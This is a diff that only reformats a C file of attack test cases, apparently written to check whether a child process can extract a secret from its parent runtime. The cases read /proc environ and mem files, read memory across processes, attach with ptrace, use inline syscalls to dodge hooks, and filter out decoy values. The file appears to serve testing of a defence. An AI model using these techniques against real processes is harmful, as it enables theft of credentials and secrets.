@@ -20,7 +20,8 @@ static void say_variables_of(const char *path) {
   }
   text[count] = 0;
   for (char *entry = text; entry < text + count; entry += strlen(entry) + 1) {
-    if (strncmp(entry, NAME, sizeof NAME - 1) == 0) say("%s\n", entry);
+    if (strncmp(entry, NAME, sizeof NAME - 1) == 0)
+      say("%s\n", entry);
   }
   close(file);
 }
@@ -36,7 +37,8 @@ ATTACK(environment_file_of_thread) { say_variables_of("/proc/thread-self/environ
 
 // What a fork of the runtime writes goes to the pipe, so that its own memory proves nothing.
 static void print(const char *bytes, size_t count) {
-  if (write(1, bytes, count) < 0) _exit(1);
+  if (write(1, bytes, count) < 0)
+    _exit(1);
 }
 
 static void environment_file_of_parent_body(void) {
@@ -44,7 +46,8 @@ static void environment_file_of_parent_body(void) {
   snprintf(path, sizeof path, "/proc/%d/environ", getppid());
   int file = open(path, O_RDONLY);
   ssize_t count = file < 0 ? -1 : read(file, text, sizeof text);
-  if (count > 0) print(text, (size_t)count);
+  if (count > 0)
+    print(text, (size_t)count);
 }
 
 ATTACK(environment_file_of_parent) { in_child_reading_output(environment_file_of_parent_body); }
@@ -66,7 +69,8 @@ static ssize_t read_across(pid_t process, uintptr_t address, char *buffer, size_
 // Only what looks like the real value: a decoy beside it would be caught on its way out.
 static int is_real(const char *value, size_t count) {
   for (size_t index = 0; index < VALUE_SIZE; index++) {
-    if (index >= count || strchr("0123456789abcdef", value[index]) == NULL || value[index] == 0) return 0;
+    if (index >= count || strchr("0123456789abcdef", value[index]) == NULL || value[index] == 0)
+      return 0;
   }
   return 1;
 }
@@ -77,9 +81,11 @@ static int is_real(const char *value, size_t count) {
 static size_t found;
 
 static void search(const char *bytes, size_t count) {
-  for (const char *hit = bytes; (hit = memmem(hit, count - (size_t)(hit - bytes), NAME, sizeof NAME - 1)) != NULL; hit++) {
+  for (const char *hit = bytes;
+       (hit = memmem(hit, count - (size_t)(hit - bytes), NAME, sizeof NAME - 1)) != NULL; hit++) {
     const char *value = hit + sizeof NAME - 1;
-    if (found > ENOUGH || !is_real(value, count - (size_t)(value - bytes))) continue;
+    if (found > ENOUGH || !is_real(value, count - (size_t)(value - bytes)))
+      continue;
     print(value, VALUE_SIZE);
     found += VALUE_SIZE;
   }
@@ -94,12 +100,15 @@ static void search_process(pid_t process, reader read_memory) {
   while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
     unsigned long start, end;
     char permissions[5];
-    if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3 || permissions[0] != 'r') continue;
-    if (end - start > (64UL << 20)) continue;
+    if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3 || permissions[0] != 'r')
+      continue;
+    if (end - start > (64UL << 20))
+      continue;
     for (unsigned long address = start; address < end; address += sizeof buffer) {
       size_t wanted = end - address < sizeof buffer ? end - address : sizeof buffer;
       ssize_t count = read_memory(process, address, buffer, wanted);
-      if (count > 0) search(buffer, (size_t)count);
+      if (count > 0)
+        search(buffer, (size_t)count);
     }
   }
 }
@@ -108,7 +117,8 @@ static void memory_file_of_parent_body(void) {
   char path[64];
   snprintf(path, sizeof path, "/proc/%d/mem", getppid());
   memory_of_parent = open(path, O_RDONLY);
-  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+  if (memory_of_parent >= 0)
+    search_process(getppid(), read_memory_file);
 }
 
 ATTACK(memory_file_of_parent) { in_child_reading_output(memory_file_of_parent_body); }
@@ -117,7 +127,8 @@ static void search_memory_by(const char *format) {
   char path[64];
   snprintf(path, sizeof path, format, getppid(), getppid());
   memory_of_parent = open(path, O_RDONLY);
-  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+  if (memory_of_parent >= 0)
+    search_process(getppid(), read_memory_file);
 }
 
 static void memory_of_task_body(void) { search_memory_by("/proc/%d/task/%d/mem"); }
@@ -126,7 +137,8 @@ static void memory_by_directory_body(void) {
   char path[64];
   snprintf(path, sizeof path, "/proc/%d", getppid());
   memory_of_parent = openat(open(path, O_PATH | O_DIRECTORY), "mem", O_RDONLY);
-  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+  if (memory_of_parent >= 0)
+    search_process(getppid(), read_memory_file);
 }
 
 static void memory_by_symlink_body(void) {
@@ -144,29 +156,31 @@ static void memory_by_inline_body(void) {
   char path[64];
   snprintf(path, sizeof path, "/proc/%d/mem", getppid());
   memory_of_parent = (int)inline_syscall(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0, 0, 0);
-  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+  if (memory_of_parent >= 0)
+    search_process(getppid(), read_memory_file);
 }
 
 ATTACK(memory_of_parent_inline) { in_child_reading_output(memory_by_inline_body); }
 
-static void memory_of_parent_across_body(void) {
-  search_process(getppid(), read_across);
-}
+static void memory_of_parent_across_body(void) { search_process(getppid(), read_across); }
 
 ATTACK(memory_of_parent_across) { in_child_reading_output(memory_of_parent_across_body); }
 
 static void trace_parent_body(void) {
   char path[64];
   pid_t parent = getppid();
-  if (ptrace(PTRACE_ATTACH, parent, NULL, NULL) != 0) return;
+  if (ptrace(PTRACE_ATTACH, parent, NULL, NULL) != 0)
+    return;
   waitpid(parent, NULL, 0);
   snprintf(path, sizeof path, "/proc/%d/mem", parent);
   memory_of_parent = open(path, O_RDONLY);
-  if (memory_of_parent >= 0) search_process(parent, read_memory_file);
+  if (memory_of_parent >= 0)
+    search_process(parent, read_memory_file);
   ptrace(PTRACE_DETACH, parent, NULL, NULL);
 }
 
-// The tracer must not be waited for while it holds its parent, so its output is read by the parent afterwards.
+// The tracer must not be waited for while it holds its parent, so its output is read by the parent
+// afterwards.
 ATTACK(trace_parent) { in_child_reading_output(trace_parent_body); }
 
 // The same by a static program of the function's own, in which there are no hooks.
